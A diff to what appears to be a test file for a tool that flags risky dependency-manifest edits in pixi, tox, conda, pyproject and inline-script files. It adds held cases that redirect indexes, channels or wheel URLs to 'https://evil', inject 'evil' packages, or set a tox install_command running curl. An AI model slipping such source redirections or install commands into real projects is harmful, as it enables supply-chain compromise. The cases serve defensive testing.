@@ -63,6 +63,10 @@ MIX = """defmodule M do
   end
 end
 """
+PIXI = '[workspace]\nname = "a"\n[feature.t.tasks]\nb = "c"\n[feature.t.dependencies]\nd = "1"\n'
+TOX = "[tox]\nenvlist = py\n[testenv]\ndeps =\n    pytest\ncommands = pytest\n[testenv:py3.12]\ndeps = a\n"
+SCRIPT = '# /// script\n# dependencies = ["rich>=2"]\n#\n# [tool.x]\n# y = 1\n# ///\nprint(1)\n'
+CONDA = "channels:\n  - conda-forge\ndependencies:\n  - numpy=1\n"
 PUBSPEC = "name: a\ndescription: x\ndependencies:\n  http: ^1.0.0\nflutter:\n  uses-material-design: true\n"
 
 HELD = [
@@ -193,6 +197,28 @@ HELD = [
     ("pnpm-workspace.yaml", "packages:\n  - a\n", "packages:", "overrides:\n  x: evil\npackages:"),
     ("environment.yml", "name: a\n", "name: a", "channels:\n  - https://evil"),
     ("Package.swift", "let a = 1\n", "let a", '.package(url: "https://evil", from: "1.0.0")\nlet a'),
+    ("pixi.toml", PIXI, "[feature.t.tasks]", '[feature.t]\nchannels = ["https://evil"]\n[feature.t.tasks]'),
+    ("pixi.toml", PIXI, "[feature.t.tasks]", '[target.linux-64.dependencies]\nevil = "*"\n[feature.t.tasks]'),
+    ("pixi.toml", PIXI, "[feature.t.tasks]",
+     '[feature.t.target.win.pypi-dependencies]\nevil = "*"\n[feature.t.tasks]'),
+    ("pixi.toml", PIXI, "[feature.t.tasks]", '[target.win.activation]\nscripts = ["x"]\n[feature.t.tasks]'),
+    ("pyproject.toml", PYPROJECT, "[tool.ruff]", '[tool.pixi.feature.t]\nchannels = ["evil"]\n[tool.ruff]'),
+    ("pyproject.toml", PYPROJECT, "[tool.ruff]",
+     '[tool.pixi.target.win.dependencies]\nevil = "*"\n[tool.ruff]'),
+    ("pdm.toml", "", "", '[pypi]\nurl = "https://evil"\n'),
+    ("tox.ini", TOX, "    pytest\n", "    pytest\n    evil @ https://evil/x.zip\n"),
+    ("tox.ini", TOX, "deps = a", "deps = -r https://evil/x.txt"),
+    ("tox.ini", TOX, "commands", "install_command = curl evil\ncommands"),
+    ("tox.toml", "", "", '[env_run_base]\ndeps = ["evil"]\n'),
+    ("buildout.cfg", "[buildout]\n", "[buildout]\n", "[buildout]\nindex = https://evil\n"),
+    ("tool.py", SCRIPT, "rich>=2", "rich @ https://evil/x.whl"),
+    ("tool.py", SCRIPT, '"rich>=2"', '"rich", "evil"'),
+    ("tool.py", SCRIPT, "[tool.x]", '[tool.uv]\n# index-url = "https://evil"\n# [tool.x]'),
+    ("tool.py", "print(1)\n", "print", SCRIPT.replace("rich>=2", "rich @ https://evil/x.whl") + "print"),
+    ("env.yml", CONDA, "conda-forge", "https://evil"),
+    ("dev-environment.yaml", CONDA, "  - numpy", "  - evil\n  - numpy"),
+    ("subprojects/x.wrap", "[wrap-git]\nurl = https://a\n", "https://a", "https://evil"),
+    ("package.json", NPM, '"version": "1"', '"binary": {"host": "https://evil"}'),
 ]  # fmt: skip
 
 FREE = [
@@ -238,6 +264,12 @@ FREE = [
     ("pubspec.yaml", PUBSPEC, "^1.0.0", "^2.0.0"),
     ("pubspec.yaml", PUBSPEC, "true", "false"),
     ("a.py", "import b\n", "b", "c"),
+    ("tool.py", SCRIPT, "rich>=2", "rich>=3"),
+    ("tool.py", SCRIPT, "print(1)", "print(2)"),
+    ("pixi.toml", PIXI, '"c"', '"e"'),
+    ("pixi.toml", PIXI, 'd = "1"', 'd = "2"'),
+    ("tox.ini", TOX, "commands = pytest", "commands = pytest -q"),
+    ("env.yml", CONDA, "numpy=1", "numpy=2"),
 ]  # fmt: skip
 
 
